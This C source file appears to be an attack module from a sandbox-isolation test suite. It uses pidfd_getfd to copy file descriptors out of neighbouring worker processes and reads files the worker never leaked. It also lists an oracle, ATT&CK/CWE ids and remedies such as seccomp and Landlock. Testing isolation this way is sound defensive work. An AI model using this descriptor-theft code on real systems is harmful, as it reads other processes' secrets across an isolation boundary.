// SPDX-License-Identifier: MIT
/*
 * Goal:  a file that the worker has open and does close on exec, as it should.
 * Means: pidfd_getfd(2) takes a copy out of the worker's own table. What happens at exec does not
 *        matter: the worker does not exec.
 */
#include "attacks/proc-read/neighbours.h"

#include <fcntl.h>
#include <sys/pidfd.h>
#include <sys/stat.h>

#define HIGHEST 64

/* Not worth stealing: what we were given anyway, by its inode. */
static bool inherited(const struct stat *theirs)
{
	struct stat st;

	for (int fd = 3; fd < 1024; fd++)
		if (!fstat(fd, &st) && st.st_ino == theirs->st_ino && st.st_dev == theirs->st_dev &&
		    !(fcntl(fd, F_GETFD) & FD_CLOEXEC))
			return true;
	return false;
}

static bool rob(pid_t pid)
{
	int process = pidfd_open(pid, 0);
	char scratch[256];
	bool robbed = false;
	struct stat st;

	for (int theirs = 3; process >= 0 && theirs < HIGHEST; theirs++) {
		int fd = pidfd_getfd(process, theirs, 0);
		ssize_t n = 0;

		if (fd < 0)
			continue;
		fcntl(fd, F_SETFD, FD_CLOEXEC);
		if (!fstat(fd, &st) && S_ISREG(st.st_mode) && !inherited(&st))
			n = pread(fd, scratch, sizeof(scratch), 0);
		if (n > 0)
			loot(scratch, (size_t)n);
		robbed |= n > 0;
		close(fd);
	}
	if (process >= 0)
		close(process);
	return robbed;
}

static enum claim run(const struct brief *b)
{
	attempting(b);
	return any_neighbour(b, rob) ? CLAIM_DONE : denied("pidfd_getfd");
}

const struct attack attack = {
	.effect = "a file that the worker did not leak is read",
	.means = "pidfd_getfd(2): a copy of a descriptor that is closed on exec",
	.oracle = "secret:private-fd",
	.id = "PEER-09",
	.attack_id = "T1106, CWE-668",
	.remedy = "seccomp; Landlock (a domain may not trace its outside); a non-dumpable worker",
	.refs = (const char *const[]){ "pidfd_getfd(2)", NULL },
	.run = run,
};
